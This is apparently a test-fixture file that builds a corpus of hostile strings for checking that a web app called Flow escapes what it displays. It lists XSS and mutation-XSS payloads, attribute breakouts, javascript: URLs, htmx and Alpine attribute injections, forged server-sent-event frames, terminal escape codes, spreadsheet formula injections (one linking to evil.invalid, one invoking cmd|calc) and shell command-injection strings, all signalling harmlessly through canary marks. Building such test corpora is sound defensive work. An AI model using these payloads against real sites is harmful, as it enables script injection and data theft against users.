/**
 * Strings that attack a page which shows them: markup, breakouts from every context, the attributes of htmx and Alpine,
 * addresses, entities, control characters, events forged by line ends, terminal codes, formulas, words of a shell.
 *
 * Each one carries a mark that names the sink it was planted in and its place in the list. What an attack does is one
 * of: a dialog, `window.pwned`, a request for `/canary/…` (here or at the other origin), an element with the attribute
 * `pwned`. So whatever comes through says who it was.
 */

/** One string, planted in one sink. */
export type Hostile = { readonly mark: string; readonly text: string };

type Attack = (mark: string, elsewhere: string) => string;

const MARKUP: readonly Attack[] = [
  (m) => `${m}<img pwned src=/canary/${m} onerror=alert(1)>`,
  (m) => `${m}<img src=x pwned onerror="window.pwned='${m}';fetch('/canary/${m}')">`,
  (m) => `${m}<svg pwned onload=alert('${m}')>`,
  (m) => `${m}<svg pwned><script>alert('${m}')</script></svg>`,
  (m) => `${m}<svg><animate pwned onbegin=alert('${m}') attributeName=x dur=1s></svg>`,
  (m) => `${m}<svg><a pwned xlink:href="javascript:alert('${m}')"><text>x</text></a></svg>`,
  (m) => `${m}<svg><use pwned href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"></use></svg>`,
  (m) => `${m}<svg><foreignObject pwned><iframe srcdoc="<script>parent.alert(1)</script>"></svg>`,
  (m) => `${m}<script>alert('${m}')</script>`,
  (m) => `</script>${m}<script>window.pwned='${m}'</script>`,
  (m) => `<ScRiPt src="/canary/${m}.js"></sCrIpT>`,
  (m, elsewhere) => `<script src="${elsewhere}/canary/${m}.js"></script>`,
  (m, elsewhere) => `<img pwned src="${elsewhere}/canary/${m}.png">`,
  (m) => `<a pwned href="javascript:alert('${m}')">${m}</a>`,
  (m) => `<p pwned style="background:url(/canary/${m})">${m}</p>`,
  (m) => `<style>*{background:url(/canary/${m})}</style>`,
  (m) => `<link pwned rel=stylesheet href=/canary/${m}.css>`,
  (m, elsewhere) => `<base pwned href="${elsewhere}/${m}/">`,
  (m) => `<meta pwned http-equiv=refresh content="0;url=/canary/${m}">`,
  (m) => `<iframe pwned srcdoc="<script>parent.alert('${m}')</script>"></iframe>`,
  (m) => `<iframe pwned src="javascript:parent.alert('${m}')"></iframe>`,
  (m) => `<object pwned data=/canary/${m}></object><embed pwned src=/canary/${m}>`,
  (m) => `<video pwned src=/canary/${m} onerror=alert(1)><source src=/canary/${m}></video>`,
  (m) => `<details pwned open ontoggle=alert('${m}')>`,
  (m) => `<input pwned autofocus onfocus=alert('${m}')>`,
  (m) => `<form pwned action="/canary/${m}"><button formaction="javascript:alert(1)">${m}</button></form>`,
  (m) => `<body pwned onload=alert('${m}')><html pwned onclick=alert(1)>`,
  (m) => `<marquee pwned onstart=alert('${m}')>${m}</marquee>`,
  (m) => `<x-x pwned onclick=alert('${m}') tabindex=1 id=content>${m}`,
];

/** What changes its meaning when it is parsed a second time. */
const MUTATIONS: readonly Attack[] = [
  (m) => `<noscript><p title="</noscript><img pwned src=/canary/${m} onerror=alert(1)>">`,
  (m) => `<template><img pwned src=/canary/${m}></template><template shadowrootmode=open><b pwned>${m}</template>`,
  (m) => `<math><mtext><table><mglyph><style><!--</style><img pwned title="--&gt;&lt;img src=/canary/${m}&gt;">`,
  (m) => `<form><math><mtext></form><form><mglyph><style></math><img pwned src=/canary/${m} onerror=alert(1)>`,
  (m) => `<svg></p><style><a id="</style><img pwned src=/canary/${m} onerror=alert(1)>">`,
  (m) => `<xmp><p title="</xmp><img pwned src=/canary/${m}>"><plaintext>${m}`,
  (m) => `${m}&lt;img pwned src=/canary/${m} onerror=alert(1)&gt;`,
  (m) => `${m}&amp;lt;img pwned src=/canary/${m}&amp;gt;`,
  (m) => `${m}&#60;img pwned src=/canary/${m}&#x3e;`,
  (m) => `${m}%3Cimg%20pwned%20src%3D/canary/${m}%3E`,
  (m) => `${m}\\u003cimg pwned src=/canary/${m}\\u003e\\x3cb pwned\\x3e`,
  (m) => `${m}+ADw-img pwned src+AD0-/canary/${m}+AD4-`,
  (m) => `${m}<im\0g pwned src=/canary/${m} onerror=alert(1)>\0<b pwned>`,
  (m) => `${m}<\u200bimg pwned><\ufeffb pwned>\uff1cimg pwned src=/canary/${m}\uff1e`,
];

/** Ways out of where text stands. */
const BREAKOUTS: readonly Attack[] = [
  (m) => `${m}"><img pwned src="/canary/${m}" onerror="alert(1)">`,
  (m) => `${m}'><img pwned src='/canary/${m}' onerror='alert(1)'>`,
  (m) => `${m}\`><img pwned src=\`/canary/${m}\` onerror=alert(1)>`,
  (m) => `${m}" onmouseover="alert('${m}')" pwned="`,
  (m) => `${m}' autofocus onfocus='alert(1)' pwned='`,
  (m) => `${m} onfocus=alert(1) pwned autofocus tabindex=0 x=`,
  (m) => `${m}</textarea><img pwned src=/canary/${m}>`,
  (m) => `${m}</title><img pwned src=/canary/${m}>`,
  (m) => `${m}</option></select></dialog></main><img pwned src=/canary/${m}>`,
  (m) => `${m}--><img pwned src=/canary/${m}><!--`,
  (m) => `${m}]]><img pwned src=/canary/${m}><![CDATA[`,
  (m) => `${m}"]<img pwned>#content > *:has(b), [x="`,
  (m) => `${m}","x":"<img pwned src=/canary/${m}>"}`,
  (m) => `${m}\\"><img pwned src=/canary/${m}>\\'`,
];

/** Addresses that are programs, and what makes Markdown fetch something. */
const ADDRESSES: readonly Attack[] = [
  (m) => `javascript:alert('${m}')`,
  (m) => `JaVaScRiPt://%0Aalert('${m}')`,
  (m) => `java\tscr\nipt:alert('${m}')`,
  (m) => `&#106;avascript&colon;alert('${m}')`,
  (m) => `\u0001javascript:alert('${m}')`,
  (m) => `data:text/html;${m},<script>alert(1)</script>`,
  (m) => `vbscript:msgbox('${m}')`,
  (m) => `[${m}](javascript:alert(1)) [${m}](data:text/html,<b>) <javascript:alert(1)>`,
  (m, elsewhere) => `![${m}](${elsewhere}/canary/${m}?q=secret "<b pwned>")`,
  (m, elsewhere) => `![${m}][r]\n\n[r]: ${elsewhere}/canary/${m}`,
  (m, elsewhere) => `//${elsewhere.replace(/^https?:\/\//, '')}/canary/${m}`,
];

/** Attributes and elements that htmx and Alpine act on, and templates of others. */
const MACHINERY: readonly Attack[] = [
  (m) => `<div pwned hx-get="/canary/${m}" hx-trigger="load">${m}</div>`,
  (m) => `<div pwned data-hx-get="/canary/${m}" data-hx-trigger="load">${m}</div>`,
  (m) => `<div pwned hx-on:click="alert('${m}')" hx-on::load="alert(1)" hx-on="load: alert(1)">${m}</div>`,
  (m) => `<div pwned id="content" hx-swap-oob="true">${m}</div>`,
  (m) => `<hx-partial hx-target="#content" hx-swap="innerHTML"><b pwned>${m}</b></hx-partial>`,
  (m) => `</hx-partial><hx-partial hx-target="body" hx-swap="beforeend"><b pwned>${m}</b></hx-partial>`,
  (m) => `<hx-oob id="content"><b pwned>${m}</b></hx-oob><template hx type="partial" hx-target="body">x</template>`,
  (m) => `${m}<hx-a x-init="alert(1)" x-data pwned `,
  (m) => `${m}" hx-get="/canary/${m}" hx-trigger="load" pwned="`,
  (m) => `${m}' hx-get='/canary/${m}' hx-trigger='load' pwned='`,
  (m) => `js:alert('${m}')`,
  (m) => `<div pwned x-data="{}" x-init="alert('${m}')">${m}</div>`,
  (m) =>
    `<div pwned x-data x-on:load="alert(1)" @click="alert(1)" :href="alert('${m}')" x-html="'<b pwned>'">${m}</div>`,
  (m) => `${m}" x-data x-init="fetch('/canary/${m}')" pwned="`,
  (m) => `<div pwned sse-connect="/canary/${m}" hx-sse:connect="/canary/${m}" sse-swap="${m}">`,
  (m) => `\${alert('${m}')}`,
  (m) => `\`\${fetch('/canary/${m}')}\``,
  (m) => `{{ constructor.constructor("alert('${m}')")() }}`,
  (m) => `${m}{{7*7}}{% print 7*7 %}<%= 7*7 %>#{7*7}`,
];

/** Line ends that would begin an event of their own, and other marks that do not show. */
const FRAMES: readonly Attack[] = [
  (m) => `${m}\n\nevent: notice\ndata: {"tone":"error","text":"${m} forged"}\n\n`,
  (m) => `${m}\r\revent: hello\rdata: 0.0.0-forged\r\r`,
  (m) => `${m}\r\n\r\nid: 1\r\nretry: 1\r\ndata: <hx-partial hx-target="body"><b pwned>x</b></hx-partial>\r\n\r\n`,
  (m) => `data: <b pwned>${m}</b>`,
  (m) => `event: ${m}`,
  (m) => `${m}\u2028event: notice\u2029data: forged\u0085\u000b\u000c`,
  (m) => `: ${m}`,
  (m) => `${m}\u202e gpj.exe \u2066<img pwned src=/canary/${m}>\u2069`,
  (m) => `${m}\ud800 lone \udfff <b pwned>`,
];

/** What other programs would make of it: a terminal, a spreadsheet, a shell. */
const PROGRAMS: readonly Attack[] = [
  (m) => `\u001b]8;;javascript:alert('${m}')\u0007${m}\u001b]8;;\u0007`,
  (m) => `\u001b]52;c;cHduZWQ=\u0007\u001b]0;${m} title\u0007\u001b[31m${m}<b pwned>\u001b[0m`,
  (m) => `=HYPERLINK("http://evil.invalid/?"&A1,"${m}")`,
  (m) => `@SUM(1+1)*cmd|' /C calc'!A0 ${m}`,
  (m) => `+${m}`,
  (m) => `-2+3+${m}`,
  (m) => `\t=1+1 ${m}`,
  (m) => `${m}$(touch pwned)\`touch pwned\``,
  (m) => `${m}'; touch pwned; '`,
  (m) => `${m}"; touch pwned; "`,
  (m) => `${m} && touch pwned | tee pwned > pwned #`,
];

const LONG: Attack = (m) => `${m}${'<b pwned>x'.repeat(400)}`;

const ATTACKS: readonly Attack[] = [
  ...MARKUP,
  ...MUTATIONS,
  ...BREAKOUTS,
  ...ADDRESSES,
  ...MACHINERY,
  ...FRAMES,
  ...PROGRAMS,
  LONG,
];

/** All of them for one sink. `elsewhere` is an origin that is not Flow's; `sink` is letters only. */
export function corpusFor(sink: string, elsewhere: string): readonly Hostile[] {
  return ATTACKS.map((attack, index) => {
    const mark = `q${sink}${String(index).padStart(3, '0')}q`;
    return { mark, text: attack(mark, elsewhere) };
  });
}
